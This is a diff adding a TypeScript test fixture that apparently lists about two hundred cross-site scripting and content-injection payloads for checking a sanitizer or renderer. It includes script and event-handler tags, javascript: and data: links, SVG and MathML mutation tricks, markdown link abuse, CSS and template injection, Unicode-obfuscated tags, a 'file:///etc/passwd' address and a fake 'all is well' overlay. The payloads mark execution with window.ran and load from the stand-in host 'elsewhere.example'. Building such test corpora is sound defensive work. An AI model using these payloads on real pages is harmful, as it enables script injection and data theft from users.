@@ -1,0 +1,233 @@
+// Two hundred things that an agent, a file or a page on the web could say to make a browser do something. Whatever would run adds to
+// `window.ran`, and whatever would be loaded is asked for at a host that has no other use.
+
+/** Nobody may ask for anything there. */
+export const ELSEWHERE = 'elsewhere.example';
+const RUN = 'window.ran=1';
+const AT = `https://${ELSEWHERE}`;
+
+const scripts: readonly string[] = [
+  `<script>${RUN}</script>`,
+  `<script src="${AT}/x.js"></script>`,
+  `<script src=//${ELSEWHERE}/x.js></script>`,
+  `<ScRiPt>${RUN}</sCrIpT>`,
+  `<script >${RUN}</script >`,
+  `<script/x>${RUN}</script/x>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `"><script>${RUN}</script>`,
+  `'><script>${RUN}</script>`,
+  `</title><script>${RUN}</script>`,
+  `</textarea><script>${RUN}</script>`,
+  `</pre></code><script>${RUN}</script>`,
+  `</script><script>${RUN}</script>`,
+  `--><script>${RUN}</script>`,
+  `]]><script>${RUN}</script>`,
+  `<script type="module">${RUN}</script>`,
+  `<script>import('${AT}/x.js')</script>`,
+  `<noscript><p title="</noscript><script>${RUN}</script>">`,
+  `<template><script>${RUN}</script></template>`,
+  `\u0000<script>${RUN}</script>`,
+  `<\u0000script>${RUN}</script>`,
+  `%3Cscript%3E${RUN}%3C/script%3E`,
+  `&lt;script&gt;${RUN}&lt;/script&gt;`,
+  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
+];
+
+const HANDLERS = ['onerror', 'onload', 'onmouseover', 'onfocus', 'ontoggle', 'onanimationstart', 'onpointerenter'];
+
+const handlers: readonly string[] = [
+  ...HANDLERS.map((name) => `<img src=x ${name}=${RUN}>`),
+  ...HANDLERS.map((name) => `<div tabindex=0 autofocus ${name}="${RUN}">x</div>`),
+  `<img src="${AT}/x.png">`,
+  `<img srcset="${AT}/x.png 2x">`,
+  `<img/src/onerror=${RUN}>`,
+  `<img src=x:x onerror=${RUN}//`,
+  `<img """><script>${RUN}</script>">`,
+  `<image href=x onerror=${RUN}>`,
+  `<picture><source srcset="${AT}/x.png"><img></picture>`,
+  `<body onload=${RUN}>`,
+  `<input autofocus onfocus=${RUN}>`,
+  `<details open ontoggle=${RUN}>x</details>`,
+  `<video src="${AT}/x.mp4" onerror=${RUN} autoplay></video>`,
+  `<audio src=x onerror=${RUN}></audio>`,
+  `<video poster="${AT}/x.png"></video>`,
+  `<marquee onstart=${RUN}>x</marquee>`,
+  `<select autofocus onfocus=${RUN}></select>`,
+  `" onmouseover="${RUN}" x="`,
+  `' onfocus='${RUN}' autofocus='`,
+  `\` onerror=${RUN} \``,
+];
+
+const frames: readonly string[] = [
+  `<iframe src="${AT}/"></iframe>`,
+  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
+  `<iframe src="javascript:parent.ran=1"></iframe>`,
+  `<iframe src="data:text/html,<script>parent.ran=1</script>"></iframe>`,
+  `<frameset><frame src="${AT}/"></frameset>`,
+  `<object data="${AT}/x.swf"></object>`,
+  `<object data="data:text/html,<script>parent.ran=1</script>"></object>`,
+  `<embed src="${AT}/x.swf">`,
+  `<embed src="javascript:${RUN}">`,
+  `<portal src="${AT}/"></portal>`,
+  `<base href="${AT}/">`,
+  `<meta http-equiv="refresh" content="0;url=${AT}/">`,
+  `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`,
+  `<link rel="stylesheet" href="${AT}/x.css">`,
+  `<link rel="prefetch" href="${AT}/x">`,
+  `<link rel="dns-prefetch" href="//${ELSEWHERE}">`,
+  `<form action="${AT}/"><input type=submit value=Allow></form>`,
+  `<button formaction="javascript:${RUN}">Allow</button>`,
+  `<isindex action="javascript:${RUN}" type=image>`,
+  `<applet code="x" archive="${AT}/x.jar"></applet>`,
+];
+
+const drawings: readonly string[] = [
+  `<svg onload=${RUN}></svg>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><script href="${AT}/x.js"/></svg>`,
+  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
+  `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>x</text></a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
+  `<svg><image href="${AT}/x.png"/></svg>`,
+  `<svg><foreignObject><iframe srcdoc="<script>parent.ran=1</script>"></iframe></foreignObject></svg>`,
+  `<svg><set attributeName=onmouseover to=${RUN}></svg>`,
+  `<svg><style>@import '${AT}/x.css'</style></svg>`,
+  `<math><mtext><script>${RUN}</script></mtext></math>`,
+  `<math href="javascript:${RUN}">x</math>`,
+];
+
+const ADDRESSES = [
+  `javascript:${RUN}`,
+  `JaVaScRiPt:${RUN}`,
+  ` javascript:${RUN}`,
+  `\u0001javascript:${RUN}`,
+  `java\tscript:${RUN}`,
+  `java\nscript:${RUN}`,
+  `javascript&colon;${RUN}`,
+  `&#106;avascript:${RUN}`,
+  `javascript&#58;${RUN}`,
+  `javascript://${ELSEWHERE}/%0A${RUN}`,
+  `vbscript:msgbox(1)`,
+  `data:text/html,<script>${RUN}</script>`,
+  `data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=`,
+  `data:image/svg+xml,<svg onload=${RUN}>`,
+  `blob:${AT}/x`,
+  `file:///etc/passwd`,
+  `view-source:${AT}`,
+  `about:blank`,
+];
+
+const links: readonly string[] = [
+  ...ADDRESSES.map((address) => `[click](${address})`),
+  ...ADDRESSES.slice(0, 6).map((address) => `<a href="${address}">click</a>`),
+  ...ADDRESSES.slice(0, 6).map((address) => `<${address}>`),
+  ...ADDRESSES.slice(0, 4).map((address) => `[click][1]\n\n[1]: ${address}`),
+  ...ADDRESSES.slice(0, 3),
+];
+
+const markdown: readonly string[] = [
+  `![x](${AT}/x.png)`,
+  `![x](${AT}/x.png "title")`,
+  `![x][1]\n\n[1]: ${AT}/x.png`,
+  `![<img src=x onerror=${RUN}>](${AT}/x.png)`,
+  `[![x](${AT}/x.png)](javascript:${RUN})`,
+  `![x](javascript:${RUN})`,
+  `![x](data:image/svg+xml,<svg/onload=${RUN}>)`,
+  `[x]: ${AT}\n\n[x]`,
+  `[x](<javascript:${RUN}>)`,
+  `[x](javascript:${RUN} "onmouseover=${RUN}")`,
+  `[x](https://a.example" onmouseover="${RUN})`,
+  `[x\\](javascript:${RUN})`,
+  `[a]([b](javascript:${RUN}))`,
+  `**<b onmouseover=${RUN}>x</b>**`,
+  `> <img src=x onerror=${RUN}>`,
+  `- <img src=x onerror=${RUN}>\n  - <svg onload=${RUN}>`,
+  `| a |\n|---|\n| <img src=x onerror=${RUN}> |`,
+  `| a |\n|---|\n| [x](javascript:${RUN}) |`,
+  `# <img src=x onerror=${RUN}>`,
+  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
+  `\`\`\`"><img src=x onerror=${RUN}>\nx\n\`\`\``,
+  `\`\`\`js onload=${RUN}\n${RUN}\n\`\`\``,
+  `    <script>${RUN}</script>`,
+  `<div>\n\n![x](${AT}/x.png)\n\n</div>`,
+  `<!-- --><script>${RUN}</script><!-- -->`,
+  `<!--><img src=x onerror=${RUN}>-->`,
+  `<?php echo 1; ?><img src=x onerror=${RUN}>`,
+  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
+  `[^1]\n\n[^1]: <img src=x onerror=${RUN}>`,
+  `- [ ] <input onfocus=${RUN} autofocus>`,
+  `www.${ELSEWHERE}/"onmouseover=${RUN}`,
+  `${AT}/<script>${RUN}</script>`,
+  `x@${ELSEWHERE}`,
+  `~~<del cite="javascript:${RUN}">x</del>~~`,
+];
+
+const styles: readonly string[] = [
+  `<style>@import url(${AT}/x.css);</style>`,
+  `<style>*{background:url(${AT}/x.png)}</style>`,
+  `<div style="background:url(${AT}/x.png)">x</div>`,
+  `<div style="width:expression(${RUN})">x</div>`,
+  `<p style="position:fixed;inset:0;background:#fff;z-index:9999">all is well</p>`,
+  `<style>body{display:none}</style>`,
+  `\x1b]8;;javascript:${RUN}\x07click\x1b]8;;\x07`,
+  `\x1b[2J\x1b[H\x1b[31mred`,
+  `red;background:url(${AT}/x.png)`,
+];
+
+const templates: readonly string[] = [
+  `{{constructor.constructor('${RUN}')()}}`,
+  `\${${RUN}}`,
+  `<%= ${RUN} %>`,
+  `#{${RUN}}`,
+  `{%raw%}${RUN}`,
+  `[[${RUN}]]`,
+  '__proto__',
+  'constructor',
+  '{"__proto__":{"ran":1}}',
+  'toString',
+];
+
+const mutations: readonly string[] = [
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
+  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
+  `<noembed><img title="</noembed><img src onerror=${RUN}>"></noembed>`,
+  `<xmp><img title="</xmp><img src onerror=${RUN}>"></xmp>`,
+  `<listing>&lt;img src=1 onerror=${RUN}&gt;</listing>`,
+  `<p id="ran">clobbered</p><a id=ran><a id=ran name=x href="${AT}">`,
+  `<table><td background="${AT}/x.png">x</table>`,
+  `<a href="javascript&NewLine;:${RUN}">x</a>`,
+  `<x contenteditable onblur=${RUN}>x</x>`,
+];
+
+const characters: readonly string[] = [
+  `\u202e>tpircs/<1=nar.wodniw>tpircs<`,
+  `＜script＞${RUN}＜/script＞`,
+  `‹script›${RUN}‹/script›`,
+  `\ufeff<script>${RUN}</script>`,
+  `<\u200bscript>${RUN}</script>`,
+  `\u2028<img src=x onerror=${RUN}>\u2029`,
+  `\ud800<img src=x onerror=${RUN}>\udc00`,
+  `\u{e0001}\u{e0073}\u{e0063}<svg onload=${RUN}>`,
+  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
+  `a\u0301\u0301\u0301<img src=x onerror=${RUN}>`,
+  `\u2066<script>\u2069${RUN}</script>`,
+  `\u00ad<svg onload=${RUN}>`,
+  `\u3164<img src=x onerror=${RUN}>`,
+  `<img src=x onerror\u00a0=${RUN}>`,
+  `ſcript:<ſcript>${RUN}</ſcript>`,
+  `<\u0130mg src=x onerror=${RUN}>`,
+];
+
+export const payloads: readonly string[] = [
+  ...scripts,
+  ...handlers,
+  ...frames,
+  ...drawings,
+  ...links,
+  ...markdown,
+  ...styles,
+  ...templates,
+  ...mutations,
+  ...characters,
+];
